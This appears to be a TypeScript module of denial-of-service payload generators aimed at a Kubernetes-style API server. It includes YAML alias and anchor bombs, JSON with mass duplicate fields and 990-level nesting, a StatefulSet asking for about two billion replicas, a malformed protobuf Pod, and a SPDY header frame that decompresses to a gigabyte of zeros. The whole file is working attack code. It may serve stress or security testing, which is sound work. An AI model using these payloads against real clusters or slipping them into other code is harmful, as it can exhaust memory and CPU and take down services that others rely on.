import { constants, deflateRawSync } from "node:zlib";

const HUGE = 2_147_483_647;

const times = <Item>(count: number, make: (at: number) => Item): Item[] =>
  Array.from({ length: Math.floor(count) }, (_, at) => make(at));
const deep = (depth: number, inner: string): string => `${'{"a":'.repeat(depth)}${inner}${"}".repeat(depth)}`;

/** YAML whose aliases unfold to a hundred times its size. */
export function aliases(bytes: number): string {
  return `x: &a [${"{},".repeat(bytes / 3 - 200)}{}]\ny: [${"*a,".repeat(98)}*a]\n`;
}

/** Owners that all say that they control the object. */
export function owners(count: number): object {
  const owner = (at: number) => ({ apiVersion: "v1", kind: "A", name: `n${at}`, uid: `u${at}`, controller: true });
  return { metadata: { name: "owned", ownerReferences: times(count, owner) } };
}

/** JSON whose fields are unknown, and each named twice. */
export function duplicates(bytes: number): string {
  const fields = times(bytes / 24, (at) => `"x${at}":1,"x${at}":1`).join();
  return `{"metadata":{"generateName":"d-"},${fields}}`;
}

/** The same, deep down. */
export function deepDuplicates(bytes: number): string {
  const fields = times(bytes / 24, (at) => `"x${at}":1,"x${at}":1`).join();
  return `{"metadata":{"generateName":"e-"},"z":${deep(990, `{${fields}}`)}}`;
}

/** YAML that nests, and names a key twice at each depth. */
export function deepYaml(bytes: number): string {
  const depth = bytes / 20;
  return `z: ${"{a: 1, a: 1, b: ".repeat(depth)}1${"}".repeat(depth)}\n`;
}

/** YAML with as many anchors as aliases. */
export function anchors(bytes: number): string {
  const count = bytes / 26;
  return `x: [${times(count, (at) => `&a${at} 1`).join()}]\ny: [${times(count, (at) => `*a${at}`).join()}]\n`;
}

export function hugeSet(): object {
  return {
    metadata: { generateName: "huge-" },
    spec: {
      replicas: HUGE,
      podManagementPolicy: "Parallel",
      serviceName: "x",
      selector: { matchLabels: { a: "b" } },
      template: { metadata: { labels: { a: "b" } }, spec: { containers: [{ name: "c", image: "c" }] } },
    },
  };
}

/** An object with a list that is a map. */
export function widget(name: string, count: number, message: string): object {
  const conditions = times(count, (at) => ({ type: `t${at}`, message }));
  return { apiVersion: "attack.example.com/v1", kind: "Widget", metadata: { name }, conditions };
}

/** An object that nests as deep as one may. */
export function deepWidget(): string {
  const head = '"apiVersion":"attack.example.com/v1","kind":"Widget","metadata":{"name":"deep"}';
  return `{${head},"spec":${deep(990, "1")}}`;
}

/** A Pod whose spec has no containers. */
export function bareProtobufPod(): Buffer {
  const part = (number: number, content: string | Uint8Array): Buffer => {
    const bytes = Buffer.from(content as string);
    return Buffer.concat([Buffer.from([(number << 3) | 2, bytes.length]), bytes]);
  };
  const pod = Buffer.concat([part(1, part(1, "bare")), part(2, "")]);
  return Buffer.concat([Buffer.from("k8s\0"), part(1, Buffer.concat([part(1, "v1"), part(2, "Pod")])), part(2, pod)]);
}

/** A frame of SPDY that opens a stream, of a megabyte: its headers unfold to a gigabyte of zeros. */
export function headerBomb(): Buffer {
  const megabyte = deflateRawSync(Buffer.alloc(2 ** 20), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const block = Buffer.concat([Buffer.from([0x78, 0xda]), ...times(1024, () => megabyte)]);
  const payload = Buffer.concat([Buffer.from([0, 0, 0, 1, 0, 0, 0, 0, 0, 0]), block]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(0x80030001);
  frame.writeUIntBE(payload.length, 5, 3);
  return Buffer.concat([frame, payload]);
}
